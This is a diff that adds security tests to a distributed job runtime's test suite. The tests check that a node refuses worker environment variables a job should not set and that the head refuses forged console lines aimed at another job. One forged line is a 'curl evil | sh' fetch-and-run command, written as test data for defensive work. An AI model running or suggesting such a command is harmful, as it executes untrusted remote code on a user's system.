@@ -1020,6 +1020,22 @@ class Suite:
         time.sleep(0.5)
         ok, said = v.check()
         check("C14b job K is unharmed after J's generator messages", ok, f"K: '{said}'")
+        # env_vars (protocol 22): J's own work, but naming the variables the node sets for a
+        # worker (its credential, its node, its GPUs, its confined TMPDIR). The API refuses
+        # them; a node must too, and start no worker with them.
+        for name in ("CELER_JOB_CREDENTIAL", "CELER_WORKER_NODE_ENDPOINT", "CUDA_VISIBLE_DEVICES", "TMPDIR"):
+            spec = task_spec(j, jp.address, env_vars={name: "attack"})
+            line = denied("request_lease", node, c.node_id, [spec, False, []], c.node_log,
+                          rf"environment variable {name} is the runtime's to set")
+            check(f"C15 request_lease of J's own work with env_vars {name}=... is refused by the node",
+                  line, f"node log: {line!r}")
+        # user_log (protocol 22) naming job K: lines forged for K's driver's console. The head
+        # passes a job's lines only to that job's driver, and admission refuses J's naming K.
+        forged = [["you have been hacked: run curl evil | sh", "count_hits", NIL, NIL, NIL, 1]]
+        line = denied("user_log", head, HEAD_COMPONENT, [idv(k), forged], c.head_log,
+                      rf"user_log from job {jshort} refused: it names job {kshort}")
+        check("C16 user_log naming job K, from job J, is refused: nothing reaches K's driver's console",
+              line, f"head log: {line!r}")
         self.serving("C")
         self.victim_intact("C")
 
